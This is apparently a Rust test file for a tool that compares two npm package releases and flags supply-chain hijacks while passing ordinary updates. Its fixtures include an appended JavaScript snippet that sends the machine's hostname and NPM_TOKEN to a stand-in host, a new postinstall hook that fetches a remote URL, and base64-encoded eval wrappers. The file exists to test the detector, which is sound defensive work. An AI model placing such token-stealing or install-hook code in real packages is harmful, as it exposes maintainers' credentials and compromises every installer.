//! Two releases side by side: the hijack and the honest update.
use crate::common::{package, run};
use cleanbill_js::delta::ChangeKind;
use cleanbill_js::{Delta, compare};
use cleanbill_model::Level;

const BODY: &str = "exports.left=function(text,n){while(text.length<n){text=' '+text}return text};\nexports.right=function(text,n){while(text.length<n){text=text+' '}return text};\nexports.both=function(text,n){return exports.left(exports.right(text,n),n+n)};\nexports.none=function(text){return text.trim().split(' ').join(' ')};\n";

fn versions(old: &str, new: &str, version: &str) -> Delta {
    let make = |v: &str, code: &str| {
        run(package(&[
            (
                "package.json",
                &format!(r#"{{"name":"case","version":"{v}","main":"index.js"}}"#),
            ),
            ("index.js", code),
        ]))
    };
    compare(&make("1.0.0", old), &make(version, new))
}

#[test]
fn ten_new_lines_at_the_end_are_held() {
    let new = format!(
        "{BODY}\n(function(){{const os=require('os');require('https').get('https://stats.example/?h='+os.hostname()+process.env.NPM_TOKEN)}})();\n"
    );
    let delta = versions(BODY, &new, "1.0.1");
    let kinds: Vec<ChangeKind> = delta
        .changes
        .iter()
        .filter(|c| c.counts)
        .map(|c| c.kind)
        .collect();
    assert!(kinds.contains(&ChangeKind::Appended), "{:#?}", delta.changes);
    assert!(kinds.contains(&ChangeKind::Host));
    assert!(delta.level >= Some(Level::Quarantine));
}

#[test]
fn a_changed_version_string_is_nothing() {
    let old = format!("{BODY}exports.version='1.0.0';exports.hash='0f1e2d3c4b5a69788796a5b4c3d2e1f0';\n");
    let new = format!("{BODY}exports.version='1.0.1';exports.hash='ff1e2d3c4b5a69788796a5b4c3d2e1ff';\n");
    let delta = versions(&old, &new, "1.0.1");
    assert_eq!(delta.level, None);
    assert!(delta.changes.is_empty(), "{:#?}", delta.changes);
}

#[test]
fn a_new_function_without_capability_holds_nothing() {
    let new =
        format!("{BODY}exports.center=function(text,n){{return exports.left(text,(n+text.length)/2)}};\n");
    assert_eq!(versions(BODY, &new, "1.1.0").level, None);
}

#[test]
fn a_new_install_script_with_a_new_host_is_held() {
    let old = run(package(&[
        (
            "package.json",
            r#"{"name":"case","version":"1.0.0","main":"index.js"}"#,
        ),
        ("index.js", BODY),
    ]));
    let new = run(package(&[
        (
            "package.json",
            r#"{"name":"case","version":"1.0.1","main":"index.js","scripts":{"postinstall":"node s.js"}}"#,
        ),
        ("index.js", BODY),
        ("s.js", "fetch('https://new.example/ping')"),
    ]));
    let delta = compare(&old, &new);
    assert!(delta.changes.iter().any(|c| c.kind == ChangeKind::Trigger));
    assert!(delta.level >= Some(Level::Quarantine));
}

#[test]
fn decoded_text_that_runs_for_the_first_time_is_held_whatever_it_does() {
    let layer = |code: &str| {
        use base64::Engine;
        let text = base64::engine::general_purpose::STANDARD.encode(code);
        format!("eval(Buffer.from('{text}','base64').toString());\n")
    };
    let hidden = layer(BODY);
    assert!(versions(BODY, &hidden, "1.0.1").level >= Some(Level::Quarantine));
    // One that always came so says nothing new.
    let same = versions(&hidden, &layer(&format!("{BODY}exports.n=1;")), "1.0.1");
    assert_eq!(same.level.filter(|l| *l >= Level::Quarantine), None);
    // What only a caller starts waits for that caller.
    let later = format!("{BODY}exports.run=function(){{{}}};", layer("1+1").trim());
    assert_eq!(
        versions(BODY, &later, "1.1.0")
            .level
            .filter(|l| *l >= Level::Quarantine),
        None
    );
}
